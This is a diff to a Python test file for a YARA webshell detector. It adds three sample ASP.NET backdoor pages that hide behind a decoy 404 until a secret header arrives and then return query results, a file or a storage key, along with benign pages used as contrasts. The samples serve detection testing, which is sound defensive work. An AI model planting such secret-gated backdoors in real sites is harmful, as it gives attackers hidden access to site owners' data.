@@ -218,3 +218,83 @@ def test_ordinary_machine_key_code_is_not_flagged(
 def test_key_theft_rule_needs_a_server_page(tmp_path: Path, params: content.ContentParams) -> None:
     log = "#Fields: date time cs-method cs-uri-stem\n2026-12-06 01:00:00 GET /error.aspx\n" + KEY_SHELLS[0][2]
     assert KEY_RULE not in yara_rules(tmp_path, "u_ex261206.log", log, params)
+
+
+# --- backdoor behind a decoy 404 (LEMURLOOT-style; the first-sight miss of the last page added) --------
+# Pages that answer "not found" unless a request header carries a hard-coded secret, then hand out data.
+# Written for these tests: placeholder secrets and tables, never run.
+GATE_RULE = "EXT_WEBSHELL_Secret_Header_Decoy_404"
+
+GATE_SHELLS: list[tuple[str, str, str]] = [
+    (
+        "cs-guid-header-then-sql",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '    var k = Request.Headers["X-Example-Token"];\n'
+        '    if (!String.Equals(k, "00000000-1111-2222-3333-444455556666")) { Response.StatusCode = 404; return; }\n'
+        '    var q = "select name, size from items where owner = 1";\n'
+        "    Response.Write(Lookup(q));\n}\n</script>",
+    ),
+    (
+        "cs-key-then-stream",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '    if (Request.Headers.Get("X-K") != "example2key9") { Response.StatusCode = 404; return; }\n'
+        '    using (var f = System.IO.File.OpenRead(Server.MapPath("~/App_Data/example.txt")))\n'
+        "    using (var z = new System.IO.Compression.GZipStream(Response.OutputStream, "
+        "System.IO.Compression.CompressionMode.Compress)) { f.CopyTo(z); }\n}\n</script>",
+    ),
+    (
+        "vb-key-then-secret-header",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Page_Load(s As Object, e As EventArgs)\n"
+        '    If Request.Headers("X-K") <> "example7secret" Then\n'
+        "        Response.StatusCode = 404 : Response.End()\n    End If\n"
+        '    Response.AppendHeader("StorageKey", Settings.StorageKey)\nEnd Sub\n</script>',
+    ),
+]
+
+GATE_BENIGN: list[tuple[str, str, str]] = [
+    (
+        "api-key-refused-with-401",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '    if (Request.Headers["X-Api-Key"] != "example2key9") { Response.StatusCode = 401; return; }\n'
+        '    Response.Write(Lookup("select name from items"));\n}\n</script>',
+    ),
+    (
+        "ajax-only-endpoint",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '    if (Request.Headers["X-Requested-With"] != "XMLHttpRequest") { Response.StatusCode = 404; return; }\n'
+        '    Response.Write(Lookup("select name from items"));\n}\n</script>',
+    ),
+    (
+        "custom-not-found-page-logging",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        "    Response.StatusCode = 404;\n"
+        '    Log("insert into misses (url, referrer) values (@u, @r)", Request.RawUrl, Request.Headers["Referer"]);\n'
+        "}\n</script>",
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), GATE_SHELLS, ids=[s[0] for s in GATE_SHELLS])
+def test_secret_header_decoy_404_is_found(
+    tmp_path: Path, params: content.ContentParams, case: str, ext: str, page: str
+) -> None:
+    assert GATE_RULE in yara_rules(tmp_path, f"{case}{ext}", page, params)
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), GATE_BENIGN, ids=[b[0] for b in GATE_BENIGN])
+def test_ordinary_header_checks_are_not_flagged(
+    tmp_path: Path, params: content.ContentParams, case: str, ext: str, page: str
+) -> None:
+    assert GATE_RULE not in yara_rules(tmp_path, f"{case}{ext}", page, params)
